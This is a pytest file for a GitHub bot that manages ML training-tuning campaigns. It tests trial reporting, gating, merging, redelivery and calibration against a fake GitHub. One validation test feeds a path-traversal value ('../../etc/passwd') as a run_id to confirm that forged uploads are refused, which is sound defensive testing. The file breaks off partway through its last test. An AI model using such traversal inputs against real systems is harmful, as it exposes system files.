"""Trial-result scenarios against the spec-validated GitHub fake (tests/forge): what the report job of trial.yml does
with a finished run, end to end through ``trial_results.handle`` and the real PyGithub client.

A campaign is started from an issue form, then each dispatched ``trial.yml`` run is answered the way the report job
would answer it: with the artifact directory the self-hosted job left (a run record, a calibration, or nothing).
"""

from __future__ import annotations

import json
import sys
from pathlib import Path
from typing import Any

import pytest

ROOT = Path(__file__).resolve().parents[2]
sys.path.insert(0, str(ROOT / "tests" / "forge"))
from forge_helpers import TOKEN, require  # noqa: E402

require("responses", "openapi_core")
from fake_github import FakeGitHub  # noqa: E402
from openapi_contract import Contract  # noqa: E402

from bot import campaign as cm  # noqa: E402
from bot.core.recipe import Recipe, parse_recipe_text  # noqa: E402
from bot.core.records import (  # noqa: E402
    Change,
    LaunchShape,
    RunRecord,
    RunSummary,
    StackFingerprint,
    StepMetric,
    Stop,
    content_hash,
)
from bot.forge.github import GATE_CONTEXT, GitHubForge  # noqa: E402
from bot.github import campaign_requests, trial_results  # noqa: E402
from bot.github.github_ports import load_state, records_branch  # noqa: E402

RECIPE = "recipes/llama3-tiny/cpu.yaml"  # a real recipe: its calibration runs on the self-hosted runner
SIM_RECIPE = "recipes/llama3.1-405b/h200x128.yaml"  # a simulated one: calibrated by the bot, no runs
SIM_SOURCE = ROOT / "bot" / "bench" / "tasks" / "llama3.1-405b" / "h200x128.yaml"  # the benchmark task placed there


def form(recipe: str = RECIPE) -> str:
    return (
        f"### Recipe path\n\n{recipe}\n\n### Budget (device-hours)\n\n1\n\n### Policy\n\nheuristic\n\n"
        "### Runner labels\n\ngpu, h100\n\n### Bench steps\n\n_No response_"
    )


class Scripted:
    """A policy that answers a fixed list of decisions, in order (then stops)."""

    name = "scripted"

    def __init__(self, *decisions: Change | Stop) -> None:
        self.decisions = list(decisions)

    def propose(self, campaign: Any, diagnosis: Any, lessons: Any, levers: Any, records: Any = None) -> Change | Stop:
        return self.decisions.pop(0) if self.decisions else Stop(why="script done", policy=self.name)


def change(lever: str, before: Any, after: Any, **kw: Any) -> Change:
    return Change(lever=lever, before=before, after=after, why=f"try {lever}", policy="scripted", **kw)


LOSSES = [4.0 - 0.1 * i for i in range(10)]


def record(
    recipe: Recipe,
    tps: float | None,
    *,
    outcome: str = "ok",
    losses: list[float] | None = None,
    cost: float = 0.01,
    run_id: str = "r",
    simulated: bool = False,
) -> RunRecord:
    losses = LOSSES if losses is None else losses
    steps = (
        [StepMetric(step=i + 1, loss=x, grad_norm=1.0, tps=tps) for i, x in enumerate(losses)]
        if outcome == "ok"
        else []
    )
    return RunRecord(
        run_id=run_id,
        recipe_id=recipe.name,
        recipe_hash=content_hash(recipe.model_dump_json()),
        model=recipe.workload.model,
        hardware=recipe.cluster.hardware,
        levers=recipe.levers,
        pinned=recipe.pinned,
        stack=StackFingerprint(python="3.11", torch="2.13.0", torchtitan="0.3.0"),
        launch=LaunchShape(launcher=recipe.cluster.launcher, nodes=1, devices_per_node=1, world_size=1),
        outcome=outcome,
        reason="" if outcome == "ok" else f"the run ended {outcome}",
        steps=steps,
        summary=RunSummary(
            steps_completed=len(steps),
            tps_median=tps if outcome == "ok" else None,
            tps_cv=0.01 if outcome == "ok" else None,
            wall_s=cost * 3600,
            device_hours=cost,
        ),
        usd_per_device_hour=recipe.cluster.usd_per_device_hour,
        simulated=simulated,
    )


def stamped(rec: RunRecord, text: str, sha: str) -> RunRecord:
    """``rec`` as a runner checked out at ``sha`` writes it: its commit, the hash of the recipe ``text`` there and what
    that recipe names (id, model, hardware, levers, pinned values, launcher and shape)."""
    recipe = parse_recipe_text(text)
    c = recipe.cluster
    launch = rec.launch.model_copy(
        update={
            "launcher": c.launcher,
            "nodes": c.nodes,
            "devices_per_node": c.devices_per_node,
            "world_size": recipe.devices,
        }
    )
    return rec.model_copy(
        update={
            "git_commit": sha,
            "recipe_hash": content_hash(text),
            "recipe_id": recipe.name,
            "model": recipe.workload.model,
            "hardware": c.hardware,
            "levers": recipe.levers,
            "pinned": recipe.pinned,
            "launch": launch,
        }
    )


@pytest.fixture
def gh(contract: Contract):
    fake = FakeGitHub(contract).start()
    fake.seed({RECIPE: (ROOT / RECIPE).read_text(), SIM_RECIPE: SIM_SOURCE.read_text()})
    fake.workflows.update({"trial.yml", "leaderboard.yml"})
    fake.permissions["alice"] = "write"
    try:
        yield fake
    finally:
        fake.stop()
    fake.assert_contract_kept()


@pytest.fixture
def forge(gh: FakeGitHub) -> GitHubForge:
    return GitHubForge(
        gh.full_name, TOKEN, seconds_between_requests=None, seconds_between_writes=None, retry=None, bot_login=gh.actor
    )


class Flow:
    """One campaign on the fake, driven the way the workflows drive it."""

    def __init__(
        self, gh: FakeGitHub, forge: GitHubForge, tmp_path: Path, policy: Scripted, recipe: str = RECIPE
    ) -> None:
        self.gh, self.forge, self.tmp, self.policy, self.path = gh, forge, tmp_path, policy, recipe
        self.recipe = parse_recipe_text((SIM_SOURCE if recipe == SIM_RECIPE else ROOT / recipe).read_text(), recipe)
        self.issue = gh.add_issue("tune it", form(recipe), user="alice", labels=["attune:campaign"])
        self.answered = 0

    def start(self) -> str:
        issue = self.gh.issues[self.issue]
        payload = {
            "action": "opened",
            "issue": {
                "number": self.issue,
                "title": issue.title,
                "body": issue.body,
                "user": {"login": issue.user},
                "labels": [{"name": "attune:campaign"}],
            },
        }
        return campaign_requests.handle(self.forge, payload, policy=self.policy, lessons=[])

    def trials(self) -> list[dict[str, str]]:
        return [d["inputs"] for d in self.gh.dispatches if d["workflow"] == "trial.yml"]

    @property
    def last(self) -> dict[str, str]:
        return self.trials()[-1]

    def answer(
        self,
        result: RunRecord | tuple[RunRecord, RunRecord] | cm.Calibrated | str | None,
        dispatch: dict[str, str] | None = None,
        job: str = "success",
        *,
        as_runner: bool = True,
        job_wall_s: float | None = 3600.0,
    ) -> str:
        """What the report job does for ``dispatch`` (default: the latest) when the run job left ``result``.

        ``as_runner``: the record is stamped the way a runner checked out at the dispatched sha stamps it (its
        ``git_commit`` and ``recipe_hash``); a ``cm.Calibrated`` stands for a calibration whose runs all went well:
        their records (losses equal to the baseline's, costing ``device_hours`` in all) are what is uploaded."""
        inputs = dispatch or self.last
        self.answered += 1
        out = self.tmp / f"artifact-{self.answered}"
        out.mkdir()
        base_sha = ""
        if isinstance(result, tuple):  # a pair: (incumbent, candidate), each stamped as its own checkout stamps it
            base_sha = self.gh.head(self.forge.base_branch)  # what check-trial emits: the default branch head
            for side, sha, rec in (("incumbent", base_sha, result[0]), ("candidate", inputs["sha"], result[1])):
                text = self.gh.file(inputs["recipe"], sha)
                (out / side).mkdir()
                (out / side / "record.json").write_text(stamped(rec, text, sha).model_dump_json())
        elif isinstance(result, RunRecord):
            if (
                as_runner and inputs["sha"] in self.gh.commits
            ):  # (a result for a sha that does not exist stays as it is)
                text = self.gh.file(inputs["recipe"], inputs["sha"])
                result = stamped(result, text, inputs["sha"])
            (out / "record.json").write_text(result.model_dump_json())
        elif isinstance(result, cm.Calibrated):
            self.write_calibration(out, result.device_hours)
            (out / "calibrated.json").write_text(result.model_dump_json())  # the runner's summary: never read
        elif isinstance(result, str):
            (out / "record.json").write_text(result)
        return trial_results.handle(
            self.forge,
            out,
            campaign=inputs["campaign"],
            issue=int(inputs["issue"]),
            pr=int(inputs["pr"]),
            sha=inputs["sha"],
            kind=inputs["kind"],
            attempt=int(inputs["attempt"]),
            run_job_result=job,
            job_wall_s=job_wall_s,
            base_sha=base_sha,
            policy=self.policy,
            lessons=[],
        )

    def write_calibration(self, out: Path, device_hours: float) -> None:
        """The calibration runs' records as ``attune github calibrate`` uploads them (``calibration/``)."""
        from bot.campaign.gate_calls import calibration_plan, record_name
        from bot.github.github_ports import records_branch

        cid = self.state().id
        baseline_text = self.gh.file(f"campaigns/{cid}/baseline-recipe.yaml", records_branch(cid))
        reference = RunRecord.model_validate_json(self.gh.file(f"campaigns/{cid}/baseline-1.json", records_branch(cid)))
        specs = calibration_plan(baseline_text, reference)
        (out / "calibration").mkdir()
        for sid, spec in specs.items():
            rec = stamped(reference, spec.recipe_text, "0" * 40).model_copy(
                update={"run_id": f"cal{len(sid)}", "hook": spec.hook}
            )
            rec.summary.device_hours = device_hours / len(specs)
            (out / "calibration" / record_name(sid)).write_text(rec.model_dump_json())

    def through_calibration(self) -> None:
        """Baseline runs (1000 and 1010 tokens/s: noise band 5%) and a calibration with no band (tier B needs none)."""
        assert self.start().endswith("started")
        assert (self.last["kind"], self.last["attempt"], self.last["pr"]) == ("baseline", "1", "0")
        self.answer(record(self.recipe, 1000.0, run_id="b1"))
        assert (self.last["kind"], self.last["attempt"]) == ("baseline", "2")
        self.answer(record(self.recipe, 1010.0, run_id="b2"))
        assert (self.last["kind"], self.last["pr"], self.last["recipe"]) == ("calibrate", "0", RECIPE)
        self.answer(cm.Calibrated(band=None, device_hours=0.02, note="no loss band: test"))

    def state(self) -> cm.Campaign:
        stored = load_state(self.forge, self.issue)
        assert stored is not None
        return stored.campaign

    def bot_comments(self, number: int) -> list[str]:
        return [c.body for c in self.gh.comments.values() if c.issue == number and c.user == self.gh.actor]

    def ops(self, operation: str) -> list[Any]:
        return [c for c in self.gh.calls if c.operation_id == operation]


def test_a_passing_trial_is_reported_gated_merged_at_its_sha_and_the_next_step_dispatched(gh, forge, tmp_path) -> None:
    flow = Flow(
        gh,
        forge,
        tmp_path,
        Scripted(change("training.gc_freq", 50, 100), change("activation_checkpoint", "full", "none")),
    )
    flow.through_calibration()
    trial = flow.last
    assert trial["kind"] == "trial" and trial["pr"] != "0" and trial["runner_labels"] == '["gpu", "h100"]'
    pr, measured = int(trial["pr"]), trial["sha"]
    assert gh.head_sha(gh.pulls[pr]) == measured

    assert "trial run ok" in flow.answer(record(flow.recipe, 1200.0, run_id="t1"))  # +19%: measure it in pairs
    pair = flow.last
    assert (pair["kind"], pair["pr"], pair["sha"], pair["attempt"], pair["order"]) == (
        "pair",
        str(pr),
        measured,
        "1",
        "AB",
    )
    assert flow.ops("pulls/merge") == []

    # one pair in one job: incumbent 1005, candidate 1150: +14.4%, its interval above the 2% minimum gain
    assert "pair 1 of step 1 ok" in flow.answer(
        (record(flow.recipe, 1005.0, run_id="a1"), record(flow.recipe, 1150.0, run_id="c1"))
    )
    pull = gh.pulls[pr]
    assert pull.merged_at is not None
    # merged through PUT /pulls/{n}/merge with the exact head it checked: the measured commit plus the bot's own
    # report and results commits (nobody else's)
    (merge,) = flow.ops("pulls/merge")
    assert merge.body["sha"] == pull.frozen_head_sha and measured in gh._ancestors(merge.body["sha"])
    own = gh._ancestors(merge.body["sha"])[: gh._ancestors(merge.body["sha"]).index(measured)]
    assert all(gh.commits[c].message.startswith("attune:") for c in own)
    assert gh.file("results/llama3-tiny/cpu/c1.json") is not None  # the low median of the candidate's runs lands
    assert gh.file(f"campaigns/{flow.state().id}/step-1/report.md") is not None

    # attune/gate success on the measured sha, and on the merged head (what branch protection looks at)
    gate = {(s.sha, s.state) for s in gh.statuses if s.context == GATE_CONTEXT}
    assert (measured, "success") in gate and (merge.body["sha"], "success") in gate

    # one report comment on the PR, with the hidden marker
    (report,) = flow.bot_comments(pr)
    assert report.startswith("<!-- attune:") and "step-1" in report.splitlines()[0] and "kept (merged)" in report

    # the dashboard on the campaign issue shows the kept step; the leaderboard is asked for
    state = flow.state()
    (dashboard,) = [b for b in flow.bot_comments(flow.issue) if b.startswith("<!-- attune:state -->")]
    assert "| training.gc_freq" in dashboard and "+14.4%" in dashboard and "```json" in dashboard
    assert state.incumbent_step == 1 and state.step(1).state == "merged"
    assert [d["workflow"] for d in gh.dispatches].count("leaderboard.yml") == 1

    # the next step is open and its trial dispatched
    nxt = flow.last
    assert nxt["kind"] == "trial" and int(nxt["pr"]) != pr
    assert gh.pulls[int(nxt["pr"])].state == "open" and state.step(2).state == "open"
    assert [s.type for s in state.pending] == ["run_trial"]


def test_a_gate_failure_closes_the_step_with_the_reason_and_keeps_its_record(gh, forge, tmp_path) -> None:
    flow = Flow(gh, forge, tmp_path, Scripted(change("training.gc_freq", 50, 100)))
    flow.through_calibration()
    pr, measured = int(flow.last["pr"]), flow.last["sha"]
    diverged = [x + 0.05 * i for i, x in enumerate(LOSSES)]  # tier B: the curve must not move at all

    flow.answer(record(flow.recipe, 1300.0, losses=diverged, run_id="t1"))

    pull = gh.pulls[pr]
    assert pull.state == "closed" and pull.merged_at is None and flow.ops("pulls/merge") == []
    assert "attune:rejected" in gh.issues[pr].labels
    comments = flow.bot_comments(pr)
    assert len(comments) == 2  # the report and the closing reason
    closing = next(c for c in comments if "closed" in c.splitlines()[0])
    assert "gate (convergence)" in closing
    assert {(s.sha, s.state) for s in gh.statuses if s.context == GATE_CONTEXT} >= {(measured, "failure")}
    state = flow.state()
    cid = state.id
    # the record is kept: on the records branch and on the closed PR's branch, with the report and the reason
    assert gh.file(f"campaigns/{cid}/step-1-trial.json", records_branch(cid)) is not None
    branch = pull.head_ref
    assert RunRecord.model_validate_json(gh.file(f"campaigns/{cid}/step-1/trial.json", branch)).run_id == "t1"
    assert "gate (convergence)" in gh.file(f"campaigns/{cid}/step-1/CLOSED.md", branch)
    assert state.phase == "finished" and state.step(1).state == "closed"  # the script stops after one step


def test_a_redelivered_trial_result_changes_nothing(gh, forge, tmp_path) -> None:
    flow = Flow(gh, forge, tmp_path, Scripted(change("training.gc_freq", 50, 100)))
    flow.through_calibration()
    trial = flow.last
    # the campaign issue's event delivered again while the trial runs: reconciled, the trial not dispatched twice
    dispatched = len(gh.dispatches)
    assert flow.start().endswith("reconciled")
    assert len(gh.dispatches) == dispatched
    flow.answer(record(flow.recipe, 1200.0, run_id="t1"), trial)
    confirm = flow.last
    # the trial's report job runs again (a re-run of the workflow): the campaign now waits for the pair
    before = (len(gh.dispatches), len(gh.comments), len(gh.statuses))
    assert flow.answer(record(flow.recipe, 1200.0, run_id="t1"), trial).startswith("ignored")
    assert (len(gh.dispatches), len(gh.comments), len(gh.statuses)) == before

    pair = (record(flow.recipe, 1005.0, run_id="a1"), record(flow.recipe, 1150.0, run_id="c1"))
    flow.answer(pair, confirm)
    merged = len(flow.ops("pulls/merge"))
    after = (len(gh.dispatches), {c.id: c.body for c in gh.comments.values()}, len(gh.statuses), dict(gh.refs))
    for again in (confirm, trial):
        assert flow.answer(pair if again is confirm else pair[1], again).startswith("ignored")
    assert len(flow.ops("pulls/merge")) == merged == 1
    assert (len(gh.dispatches), {c.id: c.body for c in gh.comments.values()}, len(gh.statuses), dict(gh.refs)) == after


def test_only_resume_dispatches_a_run_in_flight_again(gh, forge, tmp_path) -> None:
    from bot.github.comments import handle as handle_comment

    flow = Flow(gh, forge, tmp_path, Scripted())
    flow.start()
    assert len(flow.trials()) == 1

    def command(body: str) -> str:
        cid = gh.add_comment(flow.issue, body, user="alice")
        return handle_comment(
            forge,
            {
                "action": "created",
                "issue": {"number": flow.issue},
                "comment": {"id": cid, "body": body, "user": {"login": "alice"}},
            },
        )

    command("/attune budget +2")
    assert len(flow.trials()) == 1 and flow.state().budget == pytest.approx(3.0)
    command("/attune resume")  # the baseline never reported back: run it again
    first, again = flow.trials()
    assert {k: v for k, v in first.items() if k != "limits"} == {k: v for k, v in again.items() if k != "limits"}
    # the same run, now capped at the raised budget (3 device-hours on the recipe's one device)
    assert json.loads(first["limits"]) == {"max_wall_s": 3600.0} and json.loads(again["limits"]) == {
        "max_wall_s": 10800.0
    }
    flow.answer(record(flow.recipe, 1000.0, run_id="b1"))
    assert flow.answer(record(flow.recipe, 1000.0, run_id="b1"), flow.trials()[0]).startswith("ignored")
    assert flow.last["attempt"] == "2" and len(flow.trials()) == 3


def test_a_trial_carries_the_budget_cap_and_its_early_stop_bound_and_a_stopped_trial_closes(
    gh, forge, tmp_path
) -> None:
    flow = Flow(gh, forge, tmp_path, Scripted(change("training.gc_freq", 50, 100)))
    flow.through_calibration()
    assert flow.state().early_stop
    trial = flow.last
    assert trial["kind"] == "trial"
    limits = json.loads(trial["limits"])
    # the incumbent (median 1005) less twice the 5% band (a pooled runner may be slower); the cap is what is left
    assert limits["stop_below_tps"] == pytest.approx(1005 * 0.90)
    assert limits["max_wall_s"] == pytest.approx((flow.state().budget - flow.state().spent) * 3600, abs=0.01)
    assert all("stop_below_tps" not in json.loads(d["limits"]) for d in flow.trials()[:-1])  # baselines, calibration
    slow = record(flow.recipe, 700.0, run_id="t1").model_copy(
        update={"outcome": "stopped", "reason": "stopped early: test"}
    )
    flow.answer(slow)
    step = flow.state().step(1)
    assert step.state == "closed" and not step.kept and step.close_reason.startswith("no gain: stopped early")
    assert step.gain == pytest.approx(700 / 1005 - 1)


def test_a_result_for_another_sha_or_kind_is_ignored(gh, forge, tmp_path) -> None:
    flow = Flow(gh, forge, tmp_path, Scripted(change("training.gc_freq", 50, 100)))
    flow.through_calibration()
    trial = flow.last
    rec = record(flow.recipe, 1200.0)
    assert "dispatched at" in flow.answer(rec, {**trial, "sha": "f" * 40})
    assert "waits for step-1-trial" in flow.answer(rec, {**trial, "kind": "pair"})
    assert "waits for step 1, not PR" in flow.answer(rec, {**trial, "pr": "999"})
    assert flow.state().pending[0].type == "run_trial"


@pytest.mark.parametrize(
    ("artifact", "why"), [(None, "no record.json"), ("{not json", "record.json could not be read")]
)
def test_a_trial_without_a_record_is_a_crash_and_closes_the_step(gh, forge, tmp_path, artifact, why) -> None:
    flow = Flow(gh, forge, tmp_path, Scripted(change("training.gc_freq", 50, 100)))
    flow.through_calibration()
    pr, measured = int(flow.last["pr"]), flow.last["sha"]

    out = flow.answer(artifact, job="failure")

    assert "trial run crash" in out
    run = flow.state().step(1).runs[0]
    assert run.outcome == "crash" and "no usable run record" in run.reason and why in run.reason
    assert "run job: failure" in run.reason and run.record == ""
    pull = gh.pulls[pr]
    assert pull.state == "closed" and pull.merged_at is None
    closing = next(c for c in flow.bot_comments(pr) if "closed" in c.splitlines()[0])
    assert "trial crash" in closing and "no usable run record" in closing
    assert (measured, "failure") in {(s.sha, s.state) for s in gh.statuses if s.context == GATE_CONTEXT}
    assert flow.state().phase == "finished"


def test_a_baseline_without_a_record_ends_the_campaign_cleanly(gh, forge, tmp_path) -> None:
    flow = Flow(gh, forge, tmp_path, Scripted())
    flow.start()
    assert "baseline run crash" in flow.answer(None, job="cancelled")
    state = flow.state()
    assert state.phase == "finished" and "no usable run record" in state.finish_reason
    assert [d["inputs"]["kind"] for d in gh.dispatches] == ["baseline"]


def test_a_real_recipe_is_calibrated_on_the_runner_and_the_campaign_goes_on(gh, forge, tmp_path) -> None:
    flow = Flow(gh, forge, tmp_path, Scripted(change("training.gc_freq", 50, 100)))
    flow.start()
    flow.answer(record(flow.recipe, 1000.0, run_id="b1"))
    flow.answer(record(flow.recipe, 1010.0, run_id="b2"))
    cal = flow.last
    assert cal["kind"] == "calibrate" and cal["pr"] == "0" and cal["sha"] == gh.head("main")
    cid = flow.state().id
    # what the runner job reads from the records branch is there
    assert gh.file(f"campaigns/{cid}/baseline-recipe.yaml", records_branch(cid)) == (ROOT / RECIPE).read_text()
    assert gh.file(f"campaigns/{cid}/baseline-1.json", records_branch(cid)) is not None
    assert flow.state().pending[0].type == "calibrate" and not flow.state().calibrated

    # the runner's own summary says something else: the report job recomputes the band from the uploaded runs
    assert "calibrated" in flow.answer(cm.Calibrated(band=None, device_hours=0.03, note="a runner's claim"))

    state = flow.state()
    assert state.calibrated and state.loss_band is not None and "a runner's claim" not in state.calibration_note
    assert "recomputed by the report job from the uploaded runs" in state.calibration_note
    assert state.spent == pytest.approx(0.05)  # two baseline runs and the calibration's runs
    assert gh.file(f"campaigns/{cid}/calibration.json", records_branch(cid)) is not None
    assert flow.last["kind"] == "trial" and state.step(1).state == "open"  # Propose -> open -> config gate -> trial
    # delivered again: nothing
    assert flow.answer(cm.Calibrated(band=None, note="again"), cal).startswith("ignored")


def test_a_calibration_that_left_nothing_fails_closed_and_goes_on(gh, forge, tmp_path) -> None:
    flow = Flow(gh, forge, tmp_path, Scripted(change("training.gc_freq", 50, 100)))
    flow.start()
    flow.answer(record(flow.recipe, 1000.0, run_id="b1"))
    flow.answer(record(flow.recipe, 1010.0, run_id="b2"))
    flow.answer(None, job="failure")
    state = flow.state()
    assert state.calibrated and state.loss_band is None
    assert "no cal-repeat.json" in state.calibration_note and "run job: failure" in state.calibration_note
    assert flow.last["kind"] == "trial"


def test_a_simulated_recipe_is_calibrated_by_the_bot_without_a_runner(gh, forge, tmp_path) -> None:
    flow = Flow(gh, forge, tmp_path, Scripted(change("training.gc_freq", 50, 100)), recipe=SIM_RECIPE)
    flow.start()
    steps = flow.recipe.bench.steps
    losses = [4.0 - 0.01 * i for i in range(steps)]
    flow.answer(record(flow.recipe, 500.0, run_id="b1", simulated=True, losses=losses))
    flow.answer(record(flow.recipe, 505.0, run_id="b2", simulated=True, losses=losses))
    state = flow.state()
    assert "calibrate" not in [d["inputs"]["kind"] for d in gh.dispatches]
    assert state.calibrated and state.loss_band is not None and "SIMULATED" in state.calibration_note
    assert flow.last["kind"] == "trial"


def test_an_oom_retry_is_stacked_on_the_failed_step(gh, forge, tmp_path) -> None:
    flow = Flow(
        gh,
        forge,
        tmp_path,
        Scripted(change("training.local_batch_size", 1, 2), change("training.gc_freq", 50, 100, stacked_on=1)),
    )
    flow.through_calibration()
    parent_pr = int(flow.last["pr"])
    flow.answer(record(flow.recipe, None, outcome="oom", run_id="t1"))
    parent = gh.pulls[parent_pr]
    assert parent.state == "closed"

    child_pr = int(flow.last["pr"])
    child = gh.pulls[child_pr]
    assert child_pr != parent_pr and child.base_ref == "main" and flow.last["kind"] == "trial"
    # branched from the parent's head (its one-line change, report and closing note), plus one one-line commit
    head = gh.head(child.head_ref)
    assert gh.commits[head].parents == [gh.head(parent.head_ref)]
    text = gh.file(RECIPE, head)
    assert "local_batch_size: 2" in text and "gc_freq: 100" in text
    changed = [f for f in gh._diff(child) if f["filename"] == RECIPE]
    assert [(f["additions"], f["deletions"]) for f in changed] == [(2, 2)]
    # the runner may execute it: only the recipe and the bot's campaigns/ data differ from main
    check = forge.check_trial(child_pr, head)
    assert check.ok, check.reason
    assert flow.state().step(2).stacked_on == 1


def test_a_step_branch_moved_after_measuring_is_never_merged(gh, forge, tmp_path) -> None:
    from bot.forge.github import GitHubForgeError

    flow = Flow(gh, forge, tmp_path, Scripted(change("training.gc_freq", 50, 100)))
    flow.through_calibration()
    pr, measured = int(flow.last["pr"]), flow.last["sha"]
    flow.answer(record(flow.recipe, 1200.0, run_id="t1"))
    confirm = flow.last
    assert confirm["sha"] == measured
    # someone pushes to the step branch while the re-measure runs (the real check job would refuse it; say it ran)
    branch = gh.pulls[pr].head_ref
    pushed = gh.seed(
        {RECIPE: gh.file(RECIPE, branch).replace("gc_freq: 100", "gc_freq: 7")}, "a person's edit", branch=branch
    )
    with pytest.raises(GitHubForgeError, match="not merging an unmeasured commit|not adding files"):
        flow.answer((record(flow.recipe, 1005.0, run_id="a1"), record(flow.recipe, 1150.0, run_id="c1")), confirm)
    assert flow.ops("pulls/merge") == [] and gh.pulls[pr].merged_at is None
    assert gh.head(branch) == pushed  # nothing committed on top of someone else's commit
    assert all(s.sha != pushed for s in gh.statuses)  # and no gate status on it


def test_a_moved_step_branch_is_still_closed_when_the_gate_fails(gh, forge, tmp_path) -> None:
    flow = Flow(gh, forge, tmp_path, Scripted(change("training.gc_freq", 50, 100)))
    flow.through_calibration()
    pr = int(flow.last["pr"])
    branch = gh.pulls[pr].head_ref
    pushed = gh.seed({"recipes/notes.yaml": "x: 1\n"}, "a person's edit", branch=branch)
    flow.answer(record(flow.recipe, 1300.0, losses=[x + 0.1 for x in LOSSES], run_id="t1"))
    assert gh.pulls[pr].state == "closed" and gh.head(branch) == pushed
    assert any("gate (convergence)" in c for c in flow.bot_comments(pr))


def test_a_band_too_wide_for_an_early_stop_bound_sends_none() -> None:
    """Baseline runs 1000 and 1700 make a band over 100%: no positive bound is left, so none is sent (check-trial
    would refuse a non-positive one and the campaign would wait for a run that never starts)."""
    from bot.github.github_ports import run_limits

    state = cm.Campaign(
        id="c",
        recipe_path="r.yaml",
        recipe_id="r",
        budget=2.0,
        spent=0.5,
        early_stop=True,
        early_stop_k=2.0,
        incumbent_tps=1350.0,
        band=cm.ThroughputBand.from_runs([1000.0, 1700.0], k=2.0, floor=0.05),
    )
    assert state.band.band > 1.0 and state.early_stop_bound() is None
    assert run_limits(state, "trial") == {"max_wall_s": 5400.0}
    spent = state.model_copy(update={"spent": 2.0})
    assert run_limits(spent, "baseline") == {}  # nothing left: no zero cap either (a run is not dispatched then anyway)


# ---------------------------------------------------------------- what a runner uploads is checked before it is believed
@pytest.mark.parametrize(
    ("lie", "why"),
    [
        ({"summary.device_hours": 5.0}, "more than the run job's wall time allows"),
        ({"git_commit": "a" * 40}, "is not the measured sha"),
        ({"recipe_hash": "0" * 16}, "recipe_hash is not the hash"),
        ({"simulated": True}, "a simulated record for a real recipe"),
        ({"run_id": "../../etc/passwd"}, "run_id"),
        ({"reason": "x" * 10_000}, "field reason"),
        (
            {"recipe_id": "llama3.1-405b/h200x128"},
            "the record's recipe_id 'llama3.1-405b/h200x128' is not the recipe's 'llama3-tiny/cpu'",
        ),
        ({"model": "llama3.1-405b"}, "the record's model 'llama3.1-405b' is not the recipe's"),
        ({"hardware": "h200"}, "the record's hardware 'h200' is not the recipe's 'cpu'"),
        ({"levers": {"x": 1}}, "the record's levers {'x': 1} is not the recipe's"),
        ({"summary.tps_median": float("nan")}, "field summary.tps_median: nan, expected a finite number"),
        ({"summary.tps_median": -5.0}, "field summary.tps_median: -5.0, expected a number >= 0"),
        ({"summary.tps_median": float("inf")}, "field summary.tps_median: inf, expected a finite number"),
        ({"steps.2.loss": float("nan")}, "field steps[2].loss: nan, expected a finite number"),
    ],
    ids=[
        "device-hours",
        "commit",
        "recipe-hash",
        "simulated",
        "path",
        "long-string",
        "other-recipe",
        "other-model",
        "other-hardware",
        "other-levers",
        "nan-tps",
        "negative-tps",
        "inf-tps",
        "nan-loss",
    ],
)
def test_an_upload_that_lies_is_a_crash_never_a_measurement(gh, forge, tmp_path, lie, why) -> None:
    flow = Flow(gh, forge, tmp_path, Scripted(change("training.gc_freq", 50, 100)))
    flow.through_calibration()
    trial = flow.last
    text = gh.file(trial["recipe"], trial["sha"])
    rec = stamped(record(flow.recipe, 5000.0, run_id="t1"), text, trial["sha"])
    for key, value in lie.items():
        if key.startswith("summary."):
            setattr(rec.summary, key.split(".", 1)[1], value)
        elif key.startswith("steps."):
            setattr(rec.steps[int(key.split(".")[1])], key.split(".")[2], value)
        else:
            rec = rec.model_copy(update={key: value})
    # the run job ran 10 minutes on the recipe's one device: at most 1/6 device-hour
    out = flow.answer(rec, as_runner=False, job_wall_s=600.0)
    assert "trial run crash" in out
    run = flow.state().step(1).runs[0]
    assert run.outcome == "crash" and run.tps is None and "the upload was refused" in run.reason and why in run.reason
    assert gh.pulls[int(trial["pr"])].merged_at is None
    assert flow.state().model_dump_json()  # the stored state stays readable: no NaN written as null
    cid = flow.state().id
    assert gh.file(f"campaigns/{cid}/step-1-trial.json", records_branch(cid)) is None  # nothing of it was stored


def test_an_unknown_job_wall_time_keeps_every_measurement_bounded_by_the_jobs_timeout(gh, forge, tmp_path) -> None:
    """No run id, or the Actions API call failed: the run job's wall time is unknown. Its runs are still measurements
    (a baseline run fed as a crash for it ended the campaign), their device-hours bounded by the job's timeout."""
    flow = Flow(gh, forge, tmp_path, Scripted(change("training.gc_freq", 50, 100)))
    flow.start()
    assert "baseline run ok" in flow.answer(record(flow.recipe, 1000.0, run_id="b1"), job_wall_s=None)
    state = flow.state()
    assert state.phase != "finished" and state.baseline[0].outcome == "ok" and state.baseline[0].tps == 1000.0
    assert (flow.last["kind"], flow.last["attempt"]) == ("baseline", "2")
    flow.answer(record(flow.recipe, 1010.0, run_id="b2"), job_wall_s=None)
    assert "calibrated" in flow.answer(
        cm.Calibrated(band=None, device_hours=0.02, note="no loss band: test"), job_wall_s=None
    )
    assert "trial run ok" in flow.answer(record(flow.recipe, 1200.0, run_id="t1"), job_wall_s=None)
    pair = (record(flow.recipe, 1005.0, run_id="a1"), record(flow.recipe, 1150.0, run_id="c1"))
    assert "pair 1 of step 1 ok" in flow.answer(pair, job_wall_s=None)
    assert flow.state().step(1).state == "merged"


@pytest.mark.parametrize("kind", ["trial", "pair"])
def test_an_unknown_job_wall_time_still_refuses_more_device_hours_than_the_jobs_timeout_allows(
    gh, forge, tmp_path, kind
) -> None:
    from bot.github.uploads import RUN_JOB_TIMEOUT_S

    flow = Flow(gh, forge, tmp_path, Scripted(change("training.gc_freq", 50, 100)))
    flow.through_calibration()
    too_long = flow.recipe.devices * RUN_JOB_TIMEOUT_S / 3600.0 + 0.5
    if kind == "pair":
        flow.answer(record(flow.recipe, 1200.0, run_id="t1"))
        said = flow.answer(
            (record(flow.recipe, 1005.0, run_id="a1"), record(flow.recipe, 1150.0, run_id="c1", cost=too_long)),
            job_wall_s=None,
        )
    else:
        said = flow.answer(record(flow.recipe, 5000.0, run_id="t1", cost=too_long), job_wall_s=None)
    assert "crash" in said
    run = flow.state().step(1).runs[-1]
    assert run.outcome == "crash" and "more than the run job's timeout (its wall time is unknown) allows" in run.reason


def test_a_forged_calibration_run_gives_no_band(gh, forge, tmp_path) -> None:
    flow = Flow(gh, forge, tmp_path, Scripted(change("training.gc_freq", 50, 100)))
    flow.start()
    flow.answer(record(flow.recipe, 1000.0, run_id="b1"))
    flow.answer(record(flow.recipe, 1010.0, run_id="b2"))
    cal = flow.last
    art = tmp_path / "artifact-forged"
    art.mkdir()
    flow.write_calibration(art, 0.02)
    victim = next((art / "calibration").iterdir())
